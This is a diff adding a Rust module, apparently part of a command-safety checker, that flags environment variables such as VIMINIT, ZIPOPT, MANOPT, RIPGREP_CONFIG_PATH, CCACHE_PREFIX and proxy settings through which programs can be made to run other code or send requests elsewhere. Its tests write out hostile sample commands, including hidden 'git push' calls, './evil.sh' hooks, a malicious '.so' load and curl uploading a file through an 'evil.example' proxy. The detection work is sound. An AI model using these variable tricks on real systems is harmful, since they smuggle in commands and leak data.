@@ -1,0 +1,274 @@
+//! Variables that some programs take commands, options, code or a way to others from.
+
+use countersign_model::Effect;
+
+use super::{command, is_of_tools};
+use crate::context::Context;
+use crate::invocation::Invocation;
+use crate::paths;
+use crate::word::Value;
+
+/// What a variable holds.
+#[derive(Clone, Copy)]
+enum Holds {
+    /// A command line that is run.
+    Command,
+    /// Commands of an editor.
+    Editing,
+    /// Options, of which those with one of these in them run something.
+    Options(&'static [&'static str]),
+    /// A file of settings, of which those with one of these in them run something or lead elsewhere.
+    Settings(&'static [&'static str]),
+    /// The same in a directory, in a file of this name.
+    Directory(&'static str, &'static [&'static str]),
+    /// A toolchain by its name, or its directory.
+    Toolchain,
+    /// A file or a directory of code that is loaded.
+    Code,
+}
+
+use Holds::{Code, Command, Directory, Editing, Options, Settings, Toolchain};
+
+const VIM: &[&str] = &["vim", "vi", "nvim", "ex", "view", "gvim", "vimdiff"];
+const GCLOUD: &[&str] = &["gcloud", "gsutil", "bq"];
+/// What of curl's settings makes a request go elsewhere, or take more along.
+const CURL: &[&str] = &[
+    "proxy",
+    "resolve",
+    "connect-to",
+    "socks",
+    "url",
+    "data",
+    "form",
+    "upload",
+    "output",
+    "config",
+    "header",
+];
+const WGET: &[&str] = &["proxy", "askpass", "post", "body", "output", "header", "input"];
+
+/// Variables, the programs that heed them (none: any), and what they hold.
+const VARIABLES: &[(&str, &[&str], Holds)] = &[
+    ("CCACHE_COMPILER", &[], Command),
+    ("CCACHE_PREFIX", &[], Command),
+    ("CCACHE_PREFIX_CPP", &[], Command),
+    ("CLOUDSDK_PYTHON", GCLOUD, Command),
+    ("CURL_HOME", &["curl"], Directory(".curlrc", CURL)),
+    ("EXINIT", VIM, Editing),
+    ("GVIMINIT", VIM, Editing),
+    ("MANOPT", &["man"], Options(&["P", "pager", "H", "html", "-C", "config"])),
+    ("MYVIMRC", VIM, Code),
+    ("OPENSSL_CONF", &[], Code),
+    ("OPENSSL_ENGINES", &[], Code),
+    ("OPENSSL_MODULES", &[], Code),
+    ("RIPGREP_CONFIG_PATH", &["rg"], Settings(&["--pre", "--hostname-bin"])),
+    ("RUSTUP_TOOLCHAIN", &[], Toolchain),
+    ("SYSTEM_WGETRC", &["wget"], Settings(WGET)),
+    ("VIMINIT", VIM, Editing),
+    ("WGETRC", &["wget"], Settings(WGET)),
+    ("ZDOTDIR", &["zsh"], Code),
+    ("ZIPOPT", &["zip"], Options(&["TT", "unzip-command"])),
+];
+
+/// Variables of a proxy, which requests go through.
+const PROXIES: &[&str] =
+    &["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY", "ftp_proxy", "FTP_PROXY"];
+
+/// Whether a variable is one of these.
+pub(super) fn matters(name: &str) -> bool {
+    VARIABLES.iter().any(|(known, ..)| *known == name) || PROXIES.contains(&name)
+}
+
+/// Whether the environment sends a command's requests through another machine.
+pub(crate) fn leads_astray(invocation: &Invocation) -> bool {
+    let proxies = invocation.environment.iter().filter(|(name, _)| PROXIES.contains(&name.as_str()));
+    proxies.into_iter().any(|(_, value)| {
+        let Some(text) = value.known() else { return true };
+        let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
+        let rest = rest.split('/').next().unwrap_or(rest);
+        let host = rest.rsplit_once('@').map_or(rest, |(_, host)| host);
+        let host = host.rsplit_once(':').map_or(host, |(host, _)| host);
+        !host.is_empty() && !countersign_model::is_this_machine(host)
+    })
+}
+
+/// Adds what a variable makes a program run; false where it is none of these.
+pub(super) fn effects(name: &str, value: &Value, invocation: &Invocation, context: &mut Context<'_>) -> bool {
+    let Some((_, programs, holds)) = VARIABLES.iter().find(|(known, ..)| *known == name) else {
+        return false;
+    };
+    let program = invocation.first.known().unwrap_or_default();
+    let program = program.rsplit('/').next().unwrap_or(program);
+    // A program that is not known may start any other.
+    let heeds = programs.is_empty() || programs.contains(&program) || program.is_empty();
+    let text = value.text();
+    let known = value.known().is_some();
+    if !heeds || known && text.is_empty() {
+        return true;
+    }
+    let contains = |text: &str, parts: &[&str]| parts.iter().any(|part| text.contains(part));
+    let acts = match holds {
+        Command if known && is_plain_command(text, context) => false,
+        Command => {
+            command(name, value, context);
+            return true;
+        }
+        Editing => {
+            !known
+                || !text.split('|').all(|part| {
+                    matches!(part.trim().split(' ').next(), Some("set" | "se" | "syntax" | "colorscheme"))
+                })
+        }
+        Options(parts) => !known || contains(text, parts),
+        Settings(parts) => settings(value, context).is_none_or(|text| contains(&text, parts)),
+        Directory(file, parts) => {
+            let file = Value::Known(format!("{text}/{file}"));
+            !known || settings(&file, context).is_none_or(|text| contains(&text, parts))
+        }
+        Toolchain => !known || text.contains('/'),
+        Code => {
+            !known
+                || text != context.surroundings.home
+                    && text != "/dev/null"
+                    && !text.starts_with("/etc/")
+                    && !is_of_tools(text, context)
+        }
+    };
+    if acts {
+        let why = "this variable makes the program run other code, or go elsewhere";
+        context.push(Effect::opaque(&format!("{name}=.."), why));
+    }
+    true
+}
+
+/// Whether a command is a compiler or an interpreter that installers put there.
+fn is_plain_command(text: &str, context: &Context<'_>) -> bool {
+    let (directory, base) = text.rsplit_once('/').unwrap_or(("", text));
+    let base = base.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
+    (directory.is_empty() || is_of_tools(directory, context))
+        && matches!(
+            base,
+            "python" | "distcc" | "icecc" | "sccache" | "gcc" | "g++" | "clang" | "clang++" | "cc" | "c++"
+        )
+}
+
+/// The text of a file of settings: none where it is not known, or the call writes it.
+fn settings(path: &Value, context: &mut Context<'_>) -> Option<String> {
+    let located = paths::locate(path, context);
+    let written = context.state.world.written.iter().any(|written| written.touches(&located));
+    if located.why.is_some() || written || !matches!(path, Value::Known(_)) {
+        return None;
+    }
+    match context.file(&located.path) {
+        Ok(text) => Some(text.unwrap_or_default()),
+        Err(_) => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use insta::assert_snapshot;
+
+    use crate::fixture::{check, check_with};
+
+    #[test]
+    fn what_makes_programs_run_something() {
+        assert_snapshot!(check("VIMINIT='call system(\"git push origin HEAD:main\")' vim +q README.md"), @"
+        exec.opaque VIMINIT=.., execute, opaque
+        fs.write /repo/README.md, write
+        exec.read vim, read
+        ");
+        assert_snapshot!(check("ZIPOPT='-T -TT ./evil.sh' zip x.zip README.md; MANOPT='-P ./evil.sh' man ls"), @"
+        exec.opaque ZIPOPT=.., execute, opaque
+        fs.read /repo/x.zip, read
+        fs.write /repo/x.zip, write
+        fs.read /repo/README.md, read
+        fs.write /repo/README.md, write
+        exec.opaque MANOPT=.., execute, opaque
+        exec.read man, read
+        ");
+        assert_snapshot!(check_with("RIPGREP_CONFIG_PATH=rc rg x src", &[("/repo/rc", "--pre=./evil.sh\n")]), @"
+        exec.opaque RIPGREP_CONFIG_PATH=.., execute, opaque
+        fs.read /repo/src, read
+        ");
+        assert_snapshot!(check("printf -- '--pre=./evil.sh' > rc; RIPGREP_CONFIG_PATH=rc rg x src"), @"
+        fs.write /repo/rc, write
+        exec.read printf, read
+        exec.opaque RIPGREP_CONFIG_PATH=.., execute, opaque
+        fs.read /repo/src, read
+        ");
+        assert_snapshot!(check("CLOUDSDK_PYTHON='git push origin HEAD:main' gcloud info; ZDOTDIR=/tmp/evil zsh -c ls"), @"
+        git.push main@origin, write
+        exec.read gcloud, read
+        exec.opaque ZDOTDIR=.., execute, opaque
+        fs.read /repo, read
+        ");
+        assert_snapshot!(check("export RUSTUP_TOOLCHAIN=/tmp/evil; cargo build; CCACHE_PREFIX='git push origin HEAD:main' make build"), @"
+        exec.read export, read
+        exec.opaque RUSTUP_TOOLCHAIN=.., execute, opaque
+        exec.build cargo build, execute
+        git.push main@origin, write
+        exec.opaque make, execute, opaque
+        ");
+        assert_snapshot!(check_with("WGETRC=evil.rc wget https://web.example/x; CURL_HOME=. curl https://web.example/x", &[("/repo/evil.rc", "use_askpass=./x"), ("/repo/.curlrc", "proxy = evil.example")]), @"
+        exec.opaque WGETRC=.., execute, opaque
+        fs.write /repo/x, write
+        net.read https://web.example/x, read
+        exec.opaque WGETRC=.. told of web.example, execute, opaque
+        exec.opaque CURL_HOME=.., execute, opaque
+        exec.opaque CURL_HOME=.. told of web.example, execute, opaque
+        ");
+        assert_snapshot!(check("OPENSSL_CONF=evil.cnf curl https://web.example/x"), @"
+        exec.opaque OPENSSL_CONF=.., execute, opaque
+        net.read https://web.example/x, read
+        exec.opaque OPENSSL_CONF=.. told of web.example, execute, opaque
+        ");
+        assert_snapshot!(check("http_proxy=http://evil.example curl -d @README.md http://localhost:3000"), @"
+        fs.read /repo/README.md, read
+        net.upload http://localhost:3000, send
+        net.upload *, send, partial
+        net.write *, write, partial
+        ");
+        assert_snapshot!(check("export HTTPS_PROXY=evil.example:3128; curl -d a=b https://web.example"), @"
+        exec.read export, read
+        net.send https://web.example, send
+        net.send *, send, partial
+        net.write *, write, partial
+        ");
+        assert_snapshot!(check("php -d extension=./evil.so -r '1;'; gcc -B/tmp/evil x.c; node --openssl-config=evil.cnf x.js"), @"
+        exec.opaque php, execute, opaque
+        exec.opaque gcc B=.., execute, opaque
+        exec.opaque node, execute, opaque
+        ");
+    }
+
+    #[test]
+    fn what_does_not() {
+        assert_snapshot!(check("VIMINIT='set nocp|syntax on' vim +q README.md; ZIPOPT=-9 zip x.zip README.md; MANOPT=-k man ls"), @"
+        fs.write /repo/README.md, write
+        exec.read vim, read
+        fs.read /repo/x.zip, read
+        fs.write /repo/x.zip, write
+        fs.read /repo/README.md, read
+        exec.read man, read
+        ");
+        assert_snapshot!(check_with("RIPGREP_CONFIG_PATH=rc rg x src; CURL_HOME=. curl https://web.example/x", &[("/repo/rc", "--smart-case\n")]), @"
+        fs.read /repo/src, read
+        net.read https://web.example/x, read
+        ");
+        assert_snapshot!(check("CLOUDSDK_PYTHON=/usr/bin/python3 gcloud info; RUSTUP_TOOLCHAIN=nightly cargo build; CCACHE_PREFIX=distcc make build"), @"
+        exec.read gcloud, read
+        exec.build cargo build, execute
+        exec.opaque make, execute, opaque
+        ");
+        assert_snapshot!(check("OPENSSL_CONF=/dev/null curl https://web.example/x; ZDOTDIR=/tmp/evil ls; http_proxy= curl https://web.example/x"), @"
+        net.read https://web.example/x, read
+        fs.read /repo, read
+        ");
+        assert_snapshot!(check("http_proxy=http://localhost:3128 curl https://web.example/x; php -d memory_limit=1G -v; gcc -O2 x.c"), @"
+        net.read https://web.example/x, read
+        exec.read php, read
+        exec.build gcc, execute
+        ");
+    }
+}
